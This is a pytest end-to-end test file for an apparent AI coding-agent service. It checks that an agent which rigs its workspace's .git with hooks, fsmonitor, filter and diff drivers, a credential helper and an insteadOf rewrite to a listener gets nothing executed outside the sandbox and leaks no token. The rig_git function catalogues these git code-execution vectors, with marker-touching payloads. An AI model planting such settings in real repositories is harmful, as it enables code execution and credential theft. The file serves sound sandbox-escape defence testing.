"""An agent that rigs its workspace's .git gets nothing run outside the sandbox and no token; its work still lands."""

from __future__ import annotations

import socket
import subprocess
import threading
from pathlib import Path

import httpx
import pytest

from tests.e2e.conftest import REPO, command_config
from tests.e2e.test_run_git import WAIT_FOR_GO, _git, _parents, _push_while_the_agent_works, _show

HOOKS = ["pre-commit", "post-checkout", "post-merge", "post-rewrite", "pre-push", "reference-transaction",
         "post-index-change", "pre-auto-gc", "fsmonitor-watchman", "push-to-checkout", "post-update"]


def rig_git(markers: Path, listener_url: str, github_url: str, alternates: Path) -> str:
    """Shell that plants every command-running git setting we know of in ./.git, each touching a marker."""
    def touch(name: str) -> str:
        return f"touch {markers}/{name}"

    config = "\n".join([
        "[core]",
        f"\talternateRefsCommand = {touch('alternateRefsCommand')}",
        f"\tfsmonitor = {touch('fsmonitor')}; false",
        f"\tsshCommand = {touch('sshCommand')}",
        f"\tpager = {touch('pager')}; cat",
        f"\thooksPath = {markers}/../evil-hooks",
        '[filter "evil"]',
        f"\tclean = {touch('filter-clean')}; cat",
        f"\tsmudge = {touch('filter-smudge')}; cat",
        f"\tprocess = {touch('filter-process')}",
        "\trequired = true",
        '[diff "evil"]',
        f"\tcommand = {touch('diff-command')}",
        f"\ttextconv = {touch('textconv')}; cat",
        '[merge "evil"]',
        f"\tdriver = {touch('merge-driver')}",
        "[credential]",
        f"\thelper = !{touch('credential-helper')}; echo",
        "[include]",
        "\tpath = evil-include",
        f'[url "{listener_url}/"]',
        f"\tinsteadOf = {github_url}/",
        "[gc]",
        "\tauto = 1",
    ])
    include = f"[core]\n\tfsmonitor = {touch('included-fsmonitor')}; false\n"
    hooks = "; ".join(
        f"printf '#!/bin/sh\\n{touch('hook-' + h)}\\n' > .git/hooks/{h}; chmod +x .git/hooks/{h}" for h in HOOKS)
    return (f"printf '%s\\n' '{config}' >> .git/config; printf '%s' '{include}' > .git/evil-include; "
            f"mkdir -p .git/hooks; {hooks}; echo {alternates} > .git/objects/info/alternates; "
            "printf '* filter=evil diff=evil merge=evil\\n' > .gitattributes; ")


class Listener:
    """A loopback TCP server that records every connection (a stolen token would arrive here)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(65536))
                conn.sendall(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass
            finally:
                conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def test_the_rig_would_fire_if_the_worker_ran_git_in_the_workspace(tmp_path, listener, fakehub):
    # Control: the markers and the listener do notice a worker that runs git in such a workspace.
    markers = tmp_path / "markers"
    markers.mkdir()
    url = fakehub.create_repo("octo", "control", {"README.md": "x\n"})
    work = tmp_path / "control"
    _git("clone", "-q", fakehub.authenticated_clone_url("octo/control"), str(work))
    _git("remote", "set-url", "origin", url, cwd=work)
    subprocess.run(["sh", "-c", rig_git(markers, listener.url, fakehub.api_url, tmp_path)], cwd=work, check=True)

    subprocess.run(["git", "status"], cwd=work, capture_output=True)
    subprocess.run(["git", "fetch", "origin"], cwd=work, capture_output=True,
                   env={"PATH": "/usr/bin:/bin", "GIT_TERMINAL_PROMPT": "0"})

    assert {"included-fsmonitor", "credential-helper"} <= {p.name for p in markers.iterdir()}
    assert listener.received, "the insteadOf rewrite sends git to the listener"


def test_a_hostile_agents_git_settings_never_run_and_no_token_leaves(scene, fakehub, tmp_path, listener):
    # Given another repository of the same installation, and an agent that rigs its .git, then does the work
    markers = tmp_path / "markers"
    markers.mkdir()
    (tmp_path / "evil-hooks").mkdir()
    fakehub.create_repo("octo", "secrets", {"KEY": "sk-live-123\n"})
    agent = (WAIT_FOR_GO + rig_git(markers, listener.url, fakehub.api_url, tmp_path)
             + "sed -i 's/tpyo/typo/' README.md; echo added > NEW.md")
    scene.repo(command_config(agent))
    number = fakehub.open_issue(REPO, "Fix typo in README")

    # When it runs while someone pushes to its PR's branch, so publishing must fetch that branch and rebase
    fakehub.assign(REPO, number, scene.bot)
    new_head = _push_while_the_agent_works(scene, fakehub, tmp_path, "NOTES.md", "notes\n")
    [task] = scene.wait_settled()

    # Then nothing it planted ran outside the sandbox, and nothing reached its listener
    assert sorted(p.name for p in markers.iterdir()) == []
    assert listener.received == []
    # And the pull request holds the agent's files on top of the person's commit
    assert task.status == "succeeded", task.status_reason
    [pr] = scene.pulls()
    assert _parents(fakehub, task.head_sha) == [new_head]
    assert _show(fakehub, task.branch, "README.md") == "# Demo\n\nA typo here."
    assert _show(fakehub, task.branch, "NEW.md") == "added"
    assert _show(fakehub, task.branch, "NOTES.md") == "notes"
    changed = _git("--git-dir", fakehub.repo(REPO).git_dir, "diff", "--name-only", new_head, task.head_sha)
    assert changed.split() == [".gitattributes", "NEW.md", "README.md"]
    [run] = scene.runs(task.id)
    assert any(line.text.startswith(f"{task.branch} moved to {new_head[:7]} while the agent worked")
               for line in scene.logs(run.id))

    # And every token git was given reached only this repository, could only read, and is revoked
    git_requests = [r for r in fakehub.state.requests if r.actor == "git" and r.token]
    pushers = {r.token for r in git_requests if "receive-pack" in r.path + r.query}  # the test's own push
    git_tokens = {r.token for r in git_requests} - pushers
    assert len(git_tokens) == 2, "one for the clone, one for the moved branch"
    for token in git_tokens:
        issued = fakehub.state.tokens[token]
        assert issued.repos == {REPO}
        assert issued.permissions == {"contents": "read", "metadata": "read"}
        assert not issued.live
        stolen = httpx.get(f"{fakehub.api_url}/repos/octo/secrets/contents/KEY",
                           headers={"Authorization": f"token {token}"})
        assert stolen.status_code in (401, 403, 404)
